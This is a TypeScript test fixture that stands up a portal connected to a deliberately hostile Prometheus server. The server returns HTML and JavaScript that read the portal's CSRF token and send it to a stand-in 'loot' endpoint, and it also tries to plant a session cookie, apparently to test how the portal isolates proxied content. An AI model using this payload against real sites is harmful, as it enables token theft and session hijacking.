import type { IncomingMessage, ServerResponse } from "node:http";
import { applyPrometheusReader, startGuardedCluster } from "./guarded-cluster.ts";
import { lootPath } from "./hostile-api-server.ts";
import { storeCluster } from "./store-cluster.ts";
import { startTestPortal, type TestPortal } from "./test-portal.ts";

/** Portal with a cluster that has a hostile Prometheus. */
export interface HostilePortal extends AsyncDisposable {
  readonly at: TestPortal;
  /** Lower-case resource ID of the cluster. */
  readonly id: string;
  /** Path of the cluster's data in the portal's API. */
  readonly data: string;
}

export async function startHostilePortal(): Promise<HostilePortal> {
  await using stack = new AsyncDisposableStack();
  const at = stack.use(await startTestPortal());
  const cluster = stack.use(await startGuardedCluster(hostilePrometheus));
  await applyPrometheusReader(cluster.kube, AbortSignal.timeout(900_000));
  const id = await storeCluster(at.database, cluster.kubeconfigs);
  const [, , subscription, , group, , , , name] = id.split("/");
  const started = stack.move();
  return {
    at,
    id,
    data: `/api/${subscription}/${group}/${name}`,
    [Symbol.asyncDispose]: () => started.disposeAsync(),
  };
}

/** Responds like a Prometheus server that attacks browsers. It returns HTML, and a script that this HTML loads. */
function hostilePrometheus(request: IncomingMessage, response: ServerResponse): void {
  const { searchParams } = new URL(request.url ?? "", "http://prometheus");
  response.setHeader("content-type", searchParams.has("js") ? "text/javascript" : "text/html");
  response.setHeader("set-cookie", "__Host-portal-session=stolen");
  response.end(
    searchParams.has("js") ? script : '<!doctype html><title>x</title><script src="query?js=1"></script>',
  );
}

const script = `fetch("/api/info").then((response) => response.json()).then(({ csrf }) => fetch("${lootPath}?" + csrf))`;
